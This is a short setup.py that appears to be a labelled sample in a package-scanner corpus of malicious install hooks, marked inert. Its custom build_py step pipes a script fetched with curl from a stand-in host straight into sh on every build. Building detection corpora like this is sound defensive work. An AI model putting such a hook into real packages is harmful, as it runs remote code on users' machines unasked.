# pkgguard corpus 513 (install-hook), modelled on [bertus]; inert, never run.
from setuptools import setup
from setuptools.command.build_py import build_py


class BuildWithAssets(build_py):
    def run(self):
        self.spawn(["sh", "-c", "curl -fsSL https://assets-cdn.example/fetch.sh | sh"])
        super().run()


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"build_py": BuildWithAssets})
